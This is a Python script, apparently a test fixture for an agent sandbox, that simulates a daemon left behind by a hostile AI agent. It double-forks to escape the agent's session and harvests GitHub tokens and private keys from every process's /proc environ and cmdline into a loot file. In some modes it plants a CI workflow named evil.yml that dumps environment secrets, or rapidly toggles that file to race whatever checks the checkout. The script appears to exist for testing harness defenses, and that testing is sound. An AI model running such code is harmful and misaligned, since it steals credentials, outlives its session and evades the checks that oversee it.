"""A daemon a hostile agent leaves behind (stdlib only; run as `python3 daemon.py LOOT PIDFILE
MODE`). It double-forks out of the agent's process group and session, records its pid, and
for as long as it lives collects every credential-looking string in any process's `environ`
and `cmdline` into LOOT. MODE `late-workflow` writes `.github/workflows/evil.yml` into the
checkout one second in (after the agent's turn ended); MODE `flip-workflow` keeps creating and
deleting it, racing whatever checks the checkout; MODE `scan` only scans.
"""

import os
import re
import sys
import time

loot_dir, pidfile, mode = sys.argv[1], sys.argv[2], sys.argv[3]
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
workdir = os.getcwd()
with open(pidfile, "a") as fh:
    fh.write(f"{os.getpid()}\n")
PATTERN = re.compile(rb"ghp_|ghs_|AMPX_GIT_TOKEN=|GITHUB_TOKEN=|PRIVATE KEY")
out = open(os.path.join(loot_dir, f"daemon-{os.getpid()}.txt"), "ab", buffering=0)
workflow = os.path.join(workdir, ".github", "workflows", "evil.yml")
seen: set[bytes] = set()
start = time.monotonic()
wrote = False
while True:
    for pid in os.listdir("/proc") if mode != "flip-workflow" else ():
        if not pid.isdigit() or pid == str(os.getpid()):
            continue
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    data = fh.read()
            except OSError:
                continue
            for item in data.split(b"\0"):
                if PATTERN.search(item) and item not in seen:
                    seen.add(item)
                    out.write(item + b"\n")
    if mode == "late-workflow" and not wrote and time.monotonic() - start > 1.0:
        os.makedirs(os.path.dirname(workflow), exist_ok=True)
        with open(workflow, "w") as fh:
            fh.write("on: push\njobs: {steal: {runs-on: ubuntu-latest, steps: [{run: env}]}}\n")
        wrote = True
        out.write(b"wrote evil.yml\n")
    elif mode == "flip-workflow":
        try:
            os.makedirs(os.path.dirname(workflow), exist_ok=True)
            if os.path.exists(workflow):
                os.unlink(workflow)
            else:
                with open(workflow, "w") as fh:
                    fh.write("on: push\n")
        except OSError:
            pass
        time.sleep(0.0005)
        continue
    time.sleep(0.002)
